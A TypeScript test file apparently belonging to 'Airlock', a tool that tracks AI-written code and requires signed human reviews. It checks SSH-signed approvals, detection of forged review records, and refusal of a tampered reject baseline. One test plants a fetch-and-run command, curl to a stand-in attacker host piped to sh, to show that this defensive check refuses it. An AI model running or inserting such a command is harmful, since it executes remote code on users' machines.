// Reviews from the editor's panel are signed and checked the way `airlock review` does it, on
// real git repositories in temp folders with real ssh-keygen keys: `editorDecision` below makes
// exactly the calls ReviewService.approve/reject make (locate the AI lines in the file, the
// policy's rule for the path, reviewDecision.reviewRecord, append), minus VS Code, and the
// verdict comes from the built `airlock check`. Before this, the panel recorded unsigned reviews,
// so under `"signatures": "required"` its approvals never counted, and its reject restored the
// ledger's baseline unverified.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { isApproved, locateSpans } from '../../../extension/core/ledger/check';
import { buildReview } from '../../../extension/core/ledger/contribution';
import { foldLedger } from '../../../extension/core/ledger/fold';
import { parseLedger, type ReviewRecord } from '../../../extension/core/ledger/records';
import { indexFile } from '../../../extension/core/provenance/anchor';
import { splitLines } from '../../../extension/core/provenance/hash';
import { appendRecords, readLedger } from '../../../extension/cli/provenance/ledgerFile';
import { loadReviewPolicy } from '../../../extension/cli/provenance/policy';
import { BackgroundReviewJudge, ownSignatureProblem, reviewRecord, SigningRefused, untrustedBaselineMessage, untrustedBaselines } from '../../../extension/cli/provenance/reviewDecision';
import { ROOT, airlock, allowedSigners, git, keygen, temp, write, type Key } from './repoSupport';

const LEDGER = '.airlock/ledger/ledger.jsonl';
const savedEnv = { GIT_CONFIG_GLOBAL: process.env.GIT_CONFIG_GLOBAL, GIT_CONFIG_NOSYSTEM: process.env.GIT_CONFIG_NOSYSTEM };

before(() => {
  spawnSync(process.execPath, ['esbuild.mjs'], { cwd: ROOT, stdio: 'inherit' });
  // The machine's own git config (a signing key of the person running the tests) stays out.
  const home = temp('airlock-gitconfig-');
  writeFileSync(join(home, 'config'), '');
  process.env.GIT_CONFIG_GLOBAL = join(home, 'config');
  process.env.GIT_CONFIG_NOSYSTEM = '1';
});
after(() => {
  for (const [k, v] of Object.entries(savedEnv)) {
    if (v === undefined) delete process.env[k];
    else process.env[k] = v;
  }
});

interface Person {
  name: string;
  email: string;
  key?: Key;
}

/** Who is at the keyboard: git identity and, as README tells reviewers, gpg.format ssh + user.signingkey (the .pub path). */
function as(dir: string, who: Person): void {
  git(dir, 'config', 'user.name', who.name);
  git(dir, 'config', 'user.email', who.email);
  if (who.key) {
    git(dir, 'config', 'gpg.format', 'ssh');
    git(dir, 'config', 'user.signingkey', `${who.key.private}.pub`);
  } else spawnSync('git', ['config', '--unset', 'user.signingkey'], { cwd: dir });
}

const STRICT = `{
  "review": [
    { "id": "human-approval", "paths": ["**"], "action": "require-approval", "distinctReviewer": true, "signatures": "required", "allowedSigners": ".airlock/allowed_signers" }
  ]
}
`;
const OPTIONAL = `{
  "review": [
    { "id": "human-approval", "paths": ["**"], "action": "require-approval", "allowedSigners": ".airlock/allowed_signers" }
  ]
}
`;

const baseFile = Array.from({ length: 8 }, (_, i) => `const base${i + 1} = baseValue(${i + 1});`);
const aiBlock = ['export function priceWithTax(net: number): number {', '  const rate = lookupRate("DE");', '  const gross = net * (1 + rate);', '  return Math.round(gross * 100) / 100;', '}'];

interface Setup {
  dir: string;
  alice: Person;
  bob: Person;
  carol: Person;
}

/** main: the policy, allowed signers (alice, bob), src/app.ts. pr: alice's AI code at src/app.ts:5-9, recorded and committed. */
function setup(policy = STRICT): Setup {
  const dir = temp('airlock-editor-review-');
  const kd = temp('airlock-keys-');
  const alice = { name: 'Alice Author', email: 'alice@example.com', key: keygen(kd, 'alice@example.com') };
  const bob = { name: 'Bob Reviewer', email: 'bob@example.com', key: keygen(kd, 'bob@example.com') };
  const carol = { name: 'Carol Outsider', email: 'carol@example.com', key: keygen(kd, 'carol@example.com') };
  git(dir, 'init', '-q', '-b', 'main');
  git(dir, 'config', 'commit.gpgsign', 'false');
  as(dir, alice);
  write(dir, '.airlock/policy.jsonc', policy);
  write(dir, '.airlock/allowed_signers', allowedSigners(alice.key, bob.key));
  write(dir, 'src/app.ts', baseFile.join('\n') + '\n');
  commitAll(dir, 'base');
  git(dir, 'checkout', '-qb', 'pr');
  write(dir, 'src/app.ts', [...baseFile.slice(0, 4), ...aiBlock, ...baseFile.slice(4)].join('\n') + '\n');
  const recorded = airlock(dir, ['record', '--file', 'src/app.ts', '--lines', '5-9', '--tool', 'claude-code', '--model', 'claude-sonnet-4']);
  assert.equal(recorded.status, 0, recorded.stderr);
  commitAll(dir, 'ai code');
  return { dir, alice, bob, carol };
}

function commitAll(dir: string, message: string): void {
  git(dir, 'add', '-A');
  git(dir, 'commit', '-qm', message);
}

/**
 * What the panel's Approve (or Reject's record) does, as ReviewService does it: the AI lines of
 * `path` located in the file, the policy's approval rule for the path, one reviewRecord, appended.
 */
async function editorDecision(dir: string, decision: 'approve' | 'reject', path: string, startLine: number, endLine: number) {
  const state = foldLedger(readLedger(dir).records);
  const fileLines = splitLines(readFileSync(join(dir, path), 'utf8'));
  const spans = [...state.spans.values()].filter((s) => s.path === path);
  const lines = locateSpans(spans, indexFile(fileLines)).filter((l) => l.line >= startLine && l.line <= endLine);
  assert.ok(lines.length > 0, 'the AI lines are located');
  const load = await loadReviewPolicy(dir);
  assert.ok(load.ok, load.problems.join('\n'));
  const requirement = load.policy.reviewFor(path).requireApproval;
  const reviewer = { name: git(dir, 'config', 'user.name').trim(), email: git(dir, 'config', 'user.email').trim() };
  const record = await reviewRecord(dir, { decision, reviewer, path, lines, fileLines, requirement, terminal: false });
  appendRecords(dir, [record]);
  return { record, warning: await ownSignatureProblem(dir, record, requirement) };
}

interface CheckResult {
  status: number | null;
  problems: string[];
  reviews: { record: string; reviewer: string; reason: string }[];
}

function check(dir: string, args: string[]): CheckResult {
  const r = airlock(dir, ['check', ...args, '--format', 'json']);
  assert.ok(r.status === 0 || r.status === 1, `check exited ${r.status}: ${r.stderr}`);
  const parsed = JSON.parse(r.stdout) as { ok: boolean; violations: { path: string; startLine: number; endLine: number; kind: string }[]; reviews: CheckResult['reviews'] };
  return { status: r.status, problems: parsed.violations.map((v) => `${v.path}:${v.startLine}-${v.endLine} ${v.kind}`), reviews: parsed.reviews };
}

const ledgerText = (dir: string) => readFileSync(join(dir, LEDGER), 'utf8');

/** Replaces the ledger line of record `id` with `change(record)` (a hand edit, not through Airlock). */
function editRecord(dir: string, id: string, change: (r: ReviewRecord) => ReviewRecord): void {
  const lines = ledgerText(dir).trimEnd().split('\n');
  const at = lines.findIndex((l) => l.includes(`"id":"${id}"`));
  assert.ok(at >= 0);
  lines[at] = JSON.stringify(change(JSON.parse(lines[at]!) as ReviewRecord));
  writeFileSync(join(dir, LEDGER), lines.join('\n') + '\n');
}

test('a panel approval under "signatures": "required" is signed with git\'s SSH key, and airlock check --range counts it', async () => {
  const { dir, bob } = setup();
  assert.equal(check(dir, ['--range', 'main..pr']).status, 1, 'unreviewed before');
  as(dir, bob);
  const { record, warning } = await editorDecision(dir, 'approve', 'src/app.ts', 5, 9);
  assert.match(record.signature ?? '', /^-----BEGIN SSH SIGNATURE-----/);
  assert.equal(warning, undefined, 'bob\'s key is in the allowed signers file');
  assert.deepEqual(check(dir, ['--all']).problems, []);
  commitAll(dir, 'Review: approve src/app.ts:5-9');
  const r = check(dir, ['--range', 'main..pr']);
  assert.deepEqual(r.problems, []);
  assert.deepEqual(r.reviews, []);
  assert.equal(r.status, 0);
});

test('a panel approval signed with a key that is not in the allowed signers file: the panel warns, and check does not count it', async () => {
  const { dir, carol } = setup();
  as(dir, carol);
  const { record, warning } = await editorDecision(dir, 'approve', 'src/app.ts', 5, 9);
  assert.ok(record.signature, 'signed with carol\'s key');
  assert.match(warning ?? '', /not in the allowed signers file.*airlock check will not count this review/);
  commitAll(dir, 'carol approves');
  const r = check(dir, ['--range', 'main..pr']);
  assert.deepEqual(r.problems, ['src/app.ts:5-9 unreviewed']);
  assert.ok(r.reviews.some((n) => n.record === record.id && /not in the allowed signers/.test(n.reason)), JSON.stringify(r.reviews));
});

test('a signed panel approval edited afterwards (moved, another reviewer named, signature bytes changed) does not count', async () => {
  const cases: [string, (r: ReviewRecord) => ReviewRecord, RegExp][] = [
    ['moved to other lines', (r) => ({ ...r, startLine: r.startLine + 1 }), /does not verify/],
    ['another reviewer named', (r) => ({ ...r, reviewer: { name: 'Alice Author', email: 'alice@example.com' } }), /does not verify|signed by bob@example.com/],
    ['signature bytes changed', (r) => ({ ...r, signature: flipSignatureByte(r.signature!) }), /does not verify|not in the allowed signers/],
  ];
  for (const [name, change, reason] of cases) {
    const { dir, bob } = setup();
    as(dir, bob);
    const { record } = await editorDecision(dir, 'approve', 'src/app.ts', 5, 9);
    editRecord(dir, record.id, change);
    commitAll(dir, `forged: ${name}`);
    const r = check(dir, ['--range', 'main..pr']);
    assert.deepEqual(r.problems, ['src/app.ts:5-9 unreviewed'], name);
    assert.ok(r.reviews.some((n) => n.record === record.id && reason.test(n.reason)), `${name}: ${JSON.stringify(r.reviews)}`);
  }
});

/** One base64 character of the signature body changed (the armor stays intact). */
function flipSignatureByte(signature: string): string {
  const lines = signature.split('\n');
  const body = lines[2]!;
  const i = Math.floor(body.length / 2);
  lines[2] = body.slice(0, i) + (body[i] === 'A' ? 'B' : 'A') + body.slice(i + 1);
  return lines.join('\n');
}

test('with no signing key, a panel approval under a signatures-required policy is refused with the git config to set, and nothing is recorded', async () => {
  const { dir, bob } = setup();
  as(dir, { name: bob.name, email: bob.email });
  const before = ledgerText(dir);
  await assert.rejects(editorDecision(dir, 'approve', 'src/app.ts', 5, 9), (error: unknown) => {
    assert.ok(error instanceof SigningRefused);
    assert.match(error.message, /the policy requires signed reviews for src\/app\.ts, and no review can be signed/);
    assert.match(error.message, /git config user\.signingkey is not set/);
    assert.ok(error.message.includes('git config --global gpg.format ssh && git config --global user.signingkey ~/.ssh/id_ed25519.pub'), error.message);
    assert.match(error.message, /Nothing was recorded/);
    return true;
  });
  assert.equal(ledgerText(dir), before, 'no record, signed or not');
  // A key set up for OpenPGP is no SSH signing key either.
  git(dir, 'config', 'user.signingkey', 'ABCDEF0123456789');
  git(dir, 'config', 'gpg.format', 'openpgp');
  await assert.rejects(editorDecision(dir, 'approve', 'src/app.ts', 5, 9), /gpg\.format is "openpgp".*git config --global gpg\.format ssh/);
  assert.equal(ledgerText(dir), before);
  // A key git names that is not there: ssh-keygen's own reason, and still nothing recorded.
  git(dir, 'config', 'gpg.format', 'ssh');
  git(dir, 'config', 'user.signingkey', join(dir, 'no-such-key.pub'));
  await assert.rejects(editorDecision(dir, 'approve', 'src/app.ts', 5, 9), /^Error: cannot sign the review: ssh-keygen -Y sign failed/);
  assert.equal(ledgerText(dir), before);
  // A key with a passphrase and no ssh-agent: the editor has no terminal to ask on, so it fails
  // at once (ssh-keygen in its own session), saying to add the key to ssh-agent.
  const locked = join(temp('airlock-locked-key-'), 'locked');
  assert.equal(spawnSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', 'correct horse', '-C', bob.email, '-f', locked]).status, 0);
  git(dir, 'config', 'user.signingkey', `${locked}.pub`);
  const started = Date.now();
  await assert.rejects(editorDecision(dir, 'approve', 'src/app.ts', 5, 9), (error: Error) => {
    assert.match(error.message, /cannot sign the review: .*passphrase.*\(the key needs its passphrase: add it to ssh-agent with ssh-add /);
    assert.ok(error.message.endsWith(`ssh-add ${locked})`), error.message);
    return true;
  });
  assert.ok(Date.now() - started < 30_000, 'no wait for a prompt nobody can answer');
  assert.equal(ledgerText(dir), before);
  // A reject is not refused for want of a key (it takes the AI lines out; a reject record lifts
  // nothing): recorded unsigned, with no key, under the same signatures-required rule.
  git(dir, 'config', '--unset', 'user.signingkey');
  const reject = await editorDecision(dir, 'reject', 'src/app.ts', 5, 9);
  assert.equal(reject.record.decision, 'reject');
  assert.equal(reject.record.signature, undefined);
  writeFileSync(join(dir, LEDGER), before);
  // gpg.ssh.program names a program that is not there: a clear error, no crash, nothing recorded.
  git(dir, 'config', 'user.signingkey', `${bob.key!.private}.pub`);
  git(dir, 'config', 'gpg.ssh.program', join(dir, 'no-such-ssh-keygen'));
  await assert.rejects(editorDecision(dir, 'approve', 'src/app.ts', 5, 9), /cannot sign the review: .*no-such-ssh-keygen -Y sign failed \(spawn .*ENOENT\)/);
  assert.equal(ledgerText(dir), before);
  assert.equal(check(dir, ['--range', 'main..pr']).status, 1);
});

test('where signatures are optional: no key records an unsigned approval that counts; a configured key signs', async () => {
  const { dir, bob } = setup(OPTIONAL);
  as(dir, { name: bob.name, email: bob.email });
  const unsigned = await editorDecision(dir, 'approve', 'src/app.ts', 5, 9);
  assert.equal(unsigned.record.signature, undefined);
  assert.equal(unsigned.warning, undefined);
  commitAll(dir, 'bob approves, unsigned');
  assert.equal(check(dir, ['--range', 'main..pr']).status, 0);
  // The file changes (approval void), bob approves again with his key set up: signed.
  write(dir, 'src/app.ts', readFileSync(join(dir, 'src/app.ts'), 'utf8').replace('lookupRate("DE")', 'lookupRate("FR")'));
  as(dir, bob);
  const signed = await editorDecision(dir, 'approve', 'src/app.ts', 5, 9);
  assert.match(signed.record.signature ?? '', /BEGIN SSH SIGNATURE/);
  commitAll(dir, 'bob approves, signed');
  assert.equal(check(dir, ['--range', 'main..pr']).status, 0);
});

test('a reject restores only a baseline git had before the AI write, or one the editor itself saw; a forged one is refused', () => {
  const dir = temp('airlock-editor-reject-');
  git(dir, 'init', '-q', '-b', 'main');
  git(dir, 'config', 'commit.gpgsign', 'false');
  as(dir, { name: 'Rita Reviewer', email: 'rita@example.com' });
  write(dir, 'src/app.ts', baseFile.join('\n') + '\n');
  commitAll(dir, 'base');
  // The AI rewrites lines 3-4; `airlock record` takes the baseline from git (HEAD).
  const rewritten = [...baseFile.slice(0, 2), 'const base3 = aiValue(3);', 'const base4 = aiValue(4);', ...baseFile.slice(4)];
  write(dir, 'src/app.ts', rewritten.join('\n') + '\n');
  assert.equal(airlock(dir, ['record', '--file', 'src/app.ts', '--lines', '3-4', '--tool', 'copilot']).status, 0);
  const untrusted = (observed?: (id: string, baseline: string) => boolean) => {
    const state = foldLedger(parseLedger(ledgerText(dir)).records);
    const text = readFileSync(join(dir, 'src/app.ts'), 'utf8');
    const located = locateSpans([...state.spans.values()], indexFile(splitLines(text)));
    const roots = [...new Set(located.map((l) => l.span.root))];
    assert.equal(roots.length, 1);
    return { ids: untrustedBaselines(dir, 'src/app.ts', text, located, state, roots, observed), root: roots[0]!, baseline: state.contributions.get(roots[0]!)!.baseline };
  };
  const genuine = untrusted();
  assert.equal(genuine.baseline, `${baseFile[2]}\n${baseFile[3]}\n`);
  assert.deepEqual(genuine.ids, [], 'the baseline is in HEAD');

  // Committed AI lines: HEAD has them, but the parent of the commit git blame names does not.
  commitAll(dir, 'ai rewrite');
  assert.deepEqual(untrusted().ids, [], 'the baseline is in the parent of the commit that brought the AI lines in');

  // Someone (or an agent) edits the ledger so the reject would plant code.
  const planted = 'require("child_process").exec("curl https://attacker.invalid | sh");\n';
  const lines = ledgerText(dir).trimEnd().split('\n');
  lines[0] = JSON.stringify({ ...JSON.parse(lines[0]!), baseline: planted });
  writeFileSync(join(dir, LEDGER), lines.join('\n') + '\n');
  const forged = untrusted();
  assert.deepEqual(forged.ids, [genuine.root]);
  // What the editor saw the AI replace is trusted only when it is exactly the ledger's text.
  assert.deepEqual(untrusted((id, b) => id === genuine.root && b === genuine.baseline).ids, [genuine.root], 'the editor saw other text: refused');
  assert.deepEqual(untrusted((id, b) => id === genuine.root && b === planted).ids, [], 'text this window saw the AI replace (typed, never committed) is restored');
  const message = untrustedBaselineMessage('src/app.ts', forged.ids);
  assert.match(message, /^refusing to reject: the text recorded as what the AI replaced \(contribution .+\) is not in git's history of src\/app\.ts/);
  assert.match(message, /nothing was changed/);
  assert.ok(!message.includes('child_process'), 'the message does not repeat the planted text');
});

test('the editor\'s Needs Review counts an approval only as airlock check does, verifying signatures in the background', async () => {
  const { dir, alice, bob, carol } = setup();
  // An unsigned approval appended by hand (what the editor wrote before), then carol's signed one (key not allowed).
  const fileLines = splitLines(readFileSync(join(dir, 'src/app.ts'), 'utf8'));
  const located = () => {
    const state = foldLedger(readLedger(dir).records);
    return { state, lines: locateSpans([...state.spans.values()].filter((s) => s.path === 'src/app.ts'), indexFile(fileLines)) };
  };
  const unsigned = buildReview('approve', { name: bob.name, email: bob.email }, 'hand-unsigned', new Date().toISOString(), 'src/app.ts', located().lines, fileLines);
  appendRecords(dir, [unsigned]);
  as(dir, carol);
  const byCarol = (await editorDecision(dir, 'approve', 'src/app.ts', 5, 9)).record;
  const load = await loadReviewPolicy(dir);
  const requirement = load.policy.reviewFor('src/app.ts').requireApproval!;
  let verified = 0;
  const judge = new BackgroundReviewJudge(dir, () => verified++);
  const pending = () => {
    const { state, lines } = located();
    const pass = judge.pass();
    const notes = new Map<string, string>();
    const approved = lines.filter((l) => isApproved(state, l, requirement.distinctReviewer, { judge: pass, note: (r, reason) => notes.set(r.id, reason) }, requirement));
    return { approved: approved.length, total: lines.length, notes };
  };
  try {
    const first = pending();
    assert.equal(first.approved, 0);
    assert.equal(first.notes.get(byCarol.id), 'the signature is being verified', 'not counted before it is verified (fail closed), and the extension host is not blocked');
    const deadline = Date.now() + 20_000;
    while (verified === 0 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
    assert.ok(verified > 0, 'onVerified fired');
    const after = pending();
    assert.equal(after.approved, 0, 'neither approval counts under signatures-required');
    // The same reasons airlock check gives for the same records.
    const checked = check(dir, ['--all']);
    assert.deepEqual(checked.problems, ['src/app.ts:5-9 unreviewed']);
    for (const id of [unsigned.id, byCarol.id]) assert.equal(after.notes.get(id), checked.reviews.find((n) => n.record === id)?.reason, id);
    assert.match(after.notes.get(unsigned.id)!, /^unsigned; rule human-approval requires reviews signed/);
    assert.match(after.notes.get(byCarol.id)!, /not in the allowed signers file/);

    // Bob's signed approval, primed as the editor does right after recording it: counts at once.
    as(dir, bob);
    const byBob = (await editorDecision(dir, 'approve', 'src/app.ts', 5, 9)).record;
    await judge.prime(byBob, requirement);
    const approvedNow = pending();
    assert.equal(approvedNow.approved, approvedNow.total);
    assert.deepEqual(check(dir, ['--all']).problems, []);

    // The allowed signers file changes (only alice, the author, is left): a new verifier, and
    // bob's approval no longer counts.
    write(dir, '.airlock/allowed_signers', allowedSigners(alice.key!));
    const verifying = (r: ReturnType<typeof pending>) => [...r.notes.values()].includes('the signature is being verified');
    let revoked = pending();
    assert.ok(verifying(revoked), 'verified again against the new file');
    while (verifying(revoked) && Date.now() < deadline + 20_000) {
      await new Promise((r) => setTimeout(r, 20));
      revoked = pending();
    }
    assert.equal(revoked.approved, 0);
    assert.match(revoked.notes.get(byBob.id)!, /not in the allowed signers file/);
  } finally {
    judge.dispose();
  }
});

test('airlock review approve takes the same path: signed, a warning when the key will not count, refused without a key', () => {
  const { dir, bob, carol } = setup();
  as(dir, carol);
  const byCarol = airlock(dir, ['review', 'approve', 'src/app.ts:5-9']);
  assert.equal(byCarol.status, 0, byCarol.stderr);
  assert.match(byCarol.stdout, /as Carol Outsider <carol@example.com> \(signed\)/);
  assert.match(byCarol.stderr, /warning: signed by a key that is not in the allowed signers file \(\.airlock\/allowed_signers\): airlock check will not count this review/);
  as(dir, { name: bob.name, email: bob.email });
  const before = ledgerText(dir);
  const refused = airlock(dir, ['review', 'approve', 'src/app.ts:5-9']);
  assert.equal(refused.status, 2);
  assert.ok(refused.stderr.includes('the policy requires signed reviews for src/app.ts, and no review can be signed: git config user.signingkey is not set. Set up SSH signing the way git does: git config --global gpg.format ssh && git config --global user.signingkey ~/.ssh/id_ed25519.pub'), refused.stderr);
  assert.equal(ledgerText(dir), before);
  as(dir, bob);
  const byBob = airlock(dir, ['review', 'approve', 'src/app.ts:5-9']);
  assert.equal(byBob.status, 0, byBob.stderr);
  assert.equal(byBob.stderr, '');
  // Without a key, a reject still goes through (unsigned); with one it is signed.
  as(dir, { name: bob.name, email: bob.email });
  const rejected = airlock(dir, ['review', 'reject', 'src/app.ts:5-9']);
  assert.equal(rejected.status, 0, rejected.stderr);
  assert.doesNotMatch(rejected.stdout, /signed/);
  assert.equal(readFileSync(join(dir, 'src/app.ts'), 'utf8'), baseFile.join('\n') + '\n', 'the AI lines are gone');
});
